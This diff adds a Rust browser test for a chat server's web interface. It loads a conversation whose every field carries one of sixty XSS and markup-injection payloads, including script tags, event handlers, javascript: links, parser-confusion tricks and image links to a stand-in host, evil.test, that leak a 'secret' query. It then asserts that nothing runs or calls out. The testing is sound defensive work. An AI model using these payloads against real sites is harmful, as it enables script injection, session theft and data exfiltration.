@@ -1,0 +1,160 @@
+//! A real Chromium opens a conversation that is full of hostile text, from a real server (`security.md` T6).
+
+use crate::harness::{MODELS, Omega, skip};
+use omega_core::testing::Script;
+use serde_json::{Value, json};
+use std::path::{Path, PathBuf};
+use tokio::process::Command;
+
+/// Markup, links, images, schemes and confusions of parsers; `pwned` is what runs if anything does.
+const PAYLOADS: [&str; 60] = [
+    "<script>pwned(1)</script>",
+    "<img src=x onerror=pwned(2)>",
+    "<svg onload=pwned(3)>",
+    "<svg><script>pwned(4)</script></svg>",
+    "<iframe src=\"javascript:pwned(5)\"></iframe>",
+    "<iframe srcdoc=\"<script>parent.pwned(6)</script>\"></iframe>",
+    "<a href=\"javascript:pwned(7)\">click</a>",
+    "[click](javascript:pwned(8))",
+    "[click](JaVaScRiPt:pwned(9))",
+    "[click](java\tscript:pwned(10))",
+    "[click](\u{1}javascript:pwned(11))",
+    "[click](&#106;avascript:pwned(12))",
+    "[click](vbscript:pwned(13))",
+    "[click](data:text/html,<script>pwned(14)</script>)",
+    "![image](http://evil.test/15?q=secret)",
+    "![image](https://evil.test/16)",
+    "![image](//evil.test/17)",
+    "![image](data:image/svg+xml,<svg onload=pwned(18)>)",
+    "<img src=\"http://evil.test/19\">",
+    "<img srcset=\"http://evil.test/20 1x\">",
+    "<link rel=stylesheet href=http://evil.test/21>",
+    "<style>@import 'http://evil.test/22';</style>",
+    "<style>body{background:url(http://evil.test/23)}</style>",
+    "<div style=\"background:url(http://evil.test/24)\">x</div>",
+    "<object data=\"http://evil.test/25\"></object>",
+    "<embed src=\"http://evil.test/26\">",
+    "<video src=\"http://evil.test/27\" onerror=pwned(27)></video>",
+    "<audio src=x onerror=pwned(28)></audio>",
+    "<body onload=pwned(29)>",
+    "<details open ontoggle=pwned(30)>x</details>",
+    "<input autofocus onfocus=pwned(31)>",
+    "<form action=http://evil.test/32><button autofocus>x</button></form>",
+    "<base href=\"http://evil.test/33/\">",
+    "<meta http-equiv=refresh content=\"0;url=http://evil.test/34\">",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned(35)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=pwned(36)>\"></noscript>",
+    "<template><script>pwned(37)</script></template>",
+    "`<script>pwned(38)</script>`",
+    "```html\n<script>pwned(39)</script>\n```",
+    "```\"><script>pwned(40)</script>\nx\n```",
+    "<!--><script>pwned(41)</script>-->",
+    "<![CDATA[<script>pwned(42)</script>]]>",
+    "</textarea><script>pwned(43)</script>",
+    "</title><script>pwned(44)</script>",
+    "\"><img src=x onerror=pwned(45)>",
+    "'onmouseover='pwned(46)",
+    "[x](http://evil.test/47 \"title\\\" onmouseover=pwned(47)\")",
+    "[x]: javascript:pwned(48)\n\n[x]",
+    "<http://evil.test/49>",
+    "<javascript:pwned(50)>",
+    "| a |\n| - |\n| <img src=x onerror=pwned(51)> |",
+    "- <img src=x onerror=pwned(52)>",
+    "# <img src=x onerror=pwned(53)>",
+    "> <img src=x onerror=pwned(54)>",
+    "{{constructor.constructor('pwned(55)')()}}",
+    "${pwned(56)}",
+    "<x onclick=pwned(57) tabindex=1 autofocus onfocus=pwned(57)>x</x>",
+    "<a href=\"//evil.test/58\" ping=\"http://evil.test/58\">x</a>",
+    "<xml><a id=x><b onerror=pwned(59)></xml>",
+    "<marquee onstart=pwned(60)>x</marquee>",
+];
+
+/// A document in which each payload is a message, an answer, the input and the output of a tool, its name and its author's.
+fn document() -> Value {
+    let (conversation, at) = (uuid::Uuid::new_v4().to_string(), "2026-11-22T18:00:00.000Z");
+    let mut events: Vec<Value> = Vec::new();
+    for (number, payload) in PAYLOADS.iter().enumerate() {
+        let new = || uuid::Uuid::new_v4().to_string();
+        let (run, user, answer, tool) = (new(), new(), new(), new());
+        let text = format!("mark-{number}- {payload}");
+        let mut push = |mut event: Value| {
+            let seq = events.len() + 1;
+            for (name, value) in
+                [("v", json!(1)), ("seq", json!(seq)), ("conversationId", json!(conversation)), ("at", json!(at))]
+            {
+                event[name] = value;
+            }
+            event["runId"] = json!(run);
+            events.push(event);
+            seq
+        };
+        let parts = json!([{ "type": "text", "text": text }]);
+        let author = json!({ "userId": new(), "displayName": payload, "gravatarHash": "" });
+        let asked = push(json!({ "type": "message.created" }));
+        push(json!({ "type": "run.queued", "position": 0, "run": {
+            "id": run, "conversationId": conversation, "messageId": user, "status": "queued", "model": MODELS[0], "steps": 0,
+            "toolCalls": 0, "usage": {}, "createdAt": at } }));
+        push(json!({ "type": "run.started", "attempt": 1, "model": MODELS[0], "promptVersion": "1" }));
+        let began = push(json!({ "type": "run.step.started", "stepIndex": 1, "messageId": answer }));
+        let call = json!({ "type": "tool-call", "toolCallId": "c", "toolName": payload, "arguments": json!({ "a": payload }).to_string() });
+        push(json!({ "type": "message.completed", "message": {
+            "id": answer, "seq": began, "runId": run, "step": 1, "role": "assistant", "status": "complete", "content": "",
+            "parts": [{ "type": "reasoning", "text": text }, { "type": "text", "text": text }, call], "createdAt": at } }));
+        push(json!({ "type": "run.step.tool.proposed", "toolRunId": tool, "messageId": answer, "toolCallId": "c",
+            "toolId": format!("evil::{payload}"), "toolName": payload, "version": payload, "input": { payload.to_owned(): payload } }));
+        push(
+            json!({ "type": "run.step.tool.completed", "toolRunId": tool, "toolCallId": "c", "toolName": payload, "version": payload,
+            "status": "succeeded", "output": { "html": payload, payload.to_owned(): [payload] }, "outputSummary": payload,
+            "outputBytes": 10, "truncated": false, "durationMs": 1, "isError": false }),
+        );
+        push(json!({ "type": "run.completed", "answer": text, "usage": {}, "toolCalls": 1, "steps": 1 }));
+        push(json!({ "type": "notice", "code": "X", "message": payload }));
+        events[asked - 1]["message"] = json!({ "id": user, "seq": asked, "runId": run, "role": "user", "status": "complete",
+            "content": text, "parts": parts, "author": author, "createdAt": at });
+    }
+    let last = events.iter_mut().rev().find(|event| event["type"] == "message.completed").unwrap();
+    last["message"]["parts"][1]["text"] = json!("mark-59- this is the last of them");
+    json!({ "format": omega_core::export::FORMAT, "id": conversation, "title": "</title><script>pwned('title')</script>",
+        "model": MODELS[0], "createdAt": at, "events": events })
+}
+
+fn chromium() -> Option<PathBuf> {
+    let named = std::env::var_os("OMEGA_CHROMIUM").map(PathBuf::from);
+    let path = std::env::var_os("PATH").unwrap_or_default();
+    let names = ["chromium", "chromium-browser", "google-chrome"];
+    let found = || {
+        std::env::split_paths(&path).flat_map(|folder| names.map(|name| folder.join(name))).find(|file| file.is_file())
+    };
+    named.or_else(found)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_text_of_a_stranger_runs_or_calls_out() {
+    let web = Path::new(env!("CARGO_MANIFEST_DIR")).join("web");
+    let Some(chromium) = chromium() else { return skip("there is no Chromium; install it, or set OMEGA_CHROMIUM") };
+    if !web.join("node_modules/playwright-core").is_dir() {
+        return skip("playwright-core is missing: run `npm ci` in omega-server/web");
+    }
+    let omega = Omega::start(Script::new()).await;
+    let shell = omega.http.get(format!("{}/omega", omega.url)).send().await.unwrap().text().await.unwrap();
+    if !shell.contains("/omega/assets/") {
+        return skip("this server was built without the page: run `npm run build` in omega-server/web first");
+    }
+    let document = serde_json::to_vec(&document()).unwrap();
+    let conversation = omega.client.import_conversation(document).await.unwrap().id;
+    let mut node = Command::new("node");
+    node.arg(web.join("test/browser/hostile.mjs")).current_dir(&web).kill_on_drop(true);
+    node.env("OMEGA_URL", &omega.url).env("OMEGA_KEY", &omega.key).env("OMEGA_CHROMIUM", chromium);
+    let output = node.env("OMEGA_CONVERSATION", conversation.to_string()).output().await.unwrap();
+    let said = String::from_utf8_lossy(&output.stdout);
+    assert!(output.status.success(), "{said}{}", String::from_utf8_lossy(&output.stderr));
+    let seen: Value = serde_json::from_str(said.lines().last().unwrap()).unwrap();
+    assert_eq!(seen["dialogs"], json!([]), "{seen:#}");
+    assert_eq!(seen["ran"], json!([]), "{seen:#}");
+    assert_eq!(seen["foreign"], json!([]), "{seen:#}");
+    assert_eq!(seen["elements"], json!([]), "{seen:#}");
+    assert_eq!(seen["handlers"], json!([]), "{seen:#}");
+    // The page really showed them.
+    assert!(seen["shown"].as_u64().unwrap() >= 50 && seen["cards"].as_u64().unwrap() > 500, "{seen:#}");
+}
